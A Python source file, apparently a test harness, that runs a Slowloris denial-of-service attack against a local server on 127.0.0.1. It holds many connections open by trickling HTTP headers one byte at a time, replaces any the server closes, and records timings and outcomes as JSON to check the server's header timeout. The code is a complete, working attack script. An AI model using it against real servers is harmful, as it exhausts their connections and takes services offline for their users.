#!/usr/bin/python3
"""Slowloris: connections that each send a request's header one byte per second, so that only
the server's header timeout can end them.

Runs as a child process, so its work never shares a GIL with the client that measures latency:

    slowloris.py PORT CONNECTIONS [--interval SECONDS] [--settle SECONDS] [--nice N]

It opens CONNECTIONS connections spread over one interval, each sending its first byte at once
and one more every interval, and prints "ready" when all are open. It keeps that many open,
opening a new one whenever the server closes one, until a line arrives on stdin. Then it opens no
more, waits up to --settle seconds for the server to close the rest, and prints one JSON object:
{"connections": [[opened, first_byte, answered, closed, outcome, bytes_sent, local_port], ...]}.
Times are time.monotonic() (CLOCK_MONOTONIC, the same clock in every process); `answered` is
null when no byte came back, `closed` null when the server never closed the connection.
`outcome` is the status the server answered ("408"), else "eof" (closed without an answer),
"reset", "refused" (connecting failed) or "open" (still open at the end).
"""

import argparse
import heapq
import itertools
import json
import os
import resource
import selectors
import socket
import sys
import time

# Longer than any header timeout a test uses (one byte a second), so it never completes.
REQUEST = (b"GET /slowloris HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris/1.0\r\n"
           b"Accept: */*\r\nX-Slowloris: " + b"z" * 100 + b"\r\n\r\n")


class Trickle:
    """One slow connection."""

    def __init__(self, port, now):
        self.opened = now
        self.first_byte = None
        self.answered = None
        self.closed = None
        self.outcome = None
        self.sent = 0
        self.answer = b""
        self.port = None
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            self.sock.connect(("127.0.0.1", port))
        except OSError:
            self.finish(now, "refused")
            self.sock.close()
            return
        self.port = self.sock.getsockname()[1]
        self.sock.setblocking(False)

    def send_next(self, now):
        """Sends the next byte; False when the connection turned out to be closed."""
        try:
            self.sock.send(REQUEST[self.sent:self.sent + 1])
        except BlockingIOError:
            return True  # a full send buffer: the byte goes with the next one
        except OSError:
            # The server closed (and reset, as our byte found no reader): keep what it answered.
            self.drain(now)
            self.finish(now, "reset")
            return False
        if self.first_byte is None:
            self.first_byte = now
        self.sent += 1
        return True

    def on_readable(self, now):
        """Reads what the server sent; False once it closed the connection."""
        try:
            data = self.sock.recv(4096)
        except BlockingIOError:
            return True
        except OSError:
            self.finish(now, "reset")
            return False
        if data:
            if self.answered is None:
                self.answered = now
            self.answer += data
            return True
        self.finish(now, "eof")
        return False

    def drain(self, now):
        """Reads whatever the server sent before it closed."""
        while True:
            try:
                data = self.sock.recv(4096)
            except OSError:
                return
            if not data:
                return
            if self.answered is None:
                self.answered = now
            self.answer += data

    def finish(self, now, how):
        self.closed = now
        self.outcome = self.status() or how

    def status(self):
        """The status the server answered ("408"), or None."""
        if self.answer.startswith(b"HTTP/1.") and len(self.answer) >= 12:
            return self.answer[9:12].decode("latin-1")
        return None

    def record(self):
        return [self.opened, self.first_byte, self.answered, self.closed, self.outcome, self.sent,
                self.port]


def run(port, connections, interval, settle, control, out):
    """The attack; `control` is a readable file (a line on it stops it), `out` gets "ready" and
    the JSON result."""
    sel = selectors.DefaultSelector()
    sel.register(control, selectors.EVENT_READ, None)
    due = []  # heap of (time, order, trickle or None): the next byte, or None to open one
    order = itertools.count()
    start = time.monotonic()
    for i in range(connections):
        heapq.heappush(due, (start + interval * i / connections, next(order), None))
    done, live, opened = [], set(), 0
    stop_at, ready = None, False

    def close(t):
        live.discard(t)
        sel.unregister(t.sock)
        t.sock.close()
        done.append(t)

    while True:
        now = time.monotonic()
        if stop_at is not None and (not live or now >= stop_at):
            break
        while due and due[0][0] <= now:
            _, _, t = heapq.heappop(due)
            if t is None:
                if stop_at is not None:
                    continue
                t = Trickle(port, now)
                opened += 1
                if t.closed is not None:
                    done.append(t)
                    continue
                live.add(t)
                sel.register(t.sock, selectors.EVENT_READ, t)
            elif t not in live:
                continue
            if not t.send_next(now):
                close(t)
            elif t.sent < len(REQUEST):
                heapq.heappush(due, (now + interval, next(order), t))
        if not ready and opened >= connections:
            out.write("ready\n")
            out.flush()
            ready = True
        timeout = max(0.0, due[0][0] - time.monotonic()) if due else 0.25
        if stop_at is not None:
            timeout = min(timeout, max(0.0, stop_at - time.monotonic()))
        for key, _ in sel.select(timeout):
            now = time.monotonic()
            if key.data is None:
                control.readline()
                sel.unregister(control)
                stop_at = now + settle
                continue
            t = key.data
            if t in live and not t.on_readable(now):
                close(t)
                if stop_at is None:  # keep the attack at full strength
                    heapq.heappush(due, (now, next(order), None))
    for t in list(live):  # the server never closed these
        t.outcome = "open"
        close(t)
    json.dump({"connections": [t.record() for t in done]}, out)
    out.write("\n")
    out.flush()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    parser.add_argument("--settle", type=float, default=15.0,
                        help="seconds to wait for the server to close the rest after a stop")
    parser.add_argument("--nice", type=int, default=0, help="lower this process's priority")
    args = parser.parse_args()
    os.nice(args.nice)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < args.connections + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.connections + 64), hard))
    run(args.port, args.connections, args.interval, args.settle, sys.stdin, sys.stdout)


if __name__ == "__main__":
    main()
